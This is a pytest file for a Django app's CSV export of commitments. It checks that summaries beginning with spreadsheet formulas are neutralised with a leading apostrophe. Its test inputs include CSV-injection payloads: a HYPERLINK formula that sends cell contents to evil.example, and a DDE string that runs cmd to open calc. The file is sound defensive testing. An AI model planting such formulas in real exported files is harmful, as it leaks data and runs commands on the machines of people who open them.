"""The CSV, the calendar and the Atom feed against stored rows no one planned for: formulas in a
summary, control characters, dates at the end of the calendar. The rows are stored straight
through the ORM, as an import or old data would hold them."""

import csv
import io

import pytest

from tests.factories import CommitmentFactory

pytestmark = pytest.mark.django_db


def body(response) -> bytes:
    """The whole body, streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "summary",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_writes_a_summary_a_spreadsheet_would_run_as_text(client, summary):
    """A reader downloads the CSV while one stored summary is a formula: =HYPERLINK(...),
    @SUM(...), +1+1, -1+1, or =1+1 behind a tab or a carriage return. The cell starts with an
    apostrophe, so a spreadsheet shows the text instead of running it."""
    commitment = CommitmentFactory(summary=summary)

    [row] = csv_rows(client.get("/commitments.csv"))

    assert row["number"] == commitment.number
    assert row["summary"].startswith("'")
    assert row["summary"].removeprefix("'").replace("\\|", "|") == summary


def test_it_leaves_ordinary_cells_as_they_are(client):
    """A reader downloads the CSV of a commitment with a plain summary and dates: nothing gets
    an apostrophe."""
    commitment = CommitmentFactory(summary="Informeren over de stikstofaanpak")

    [row] = csv_rows(client.get("/commitments.csv"))

    assert row["summary"] == "Informeren over de stikstofaanpak"
    assert row["made_on"] == commitment.made_on.isoformat()
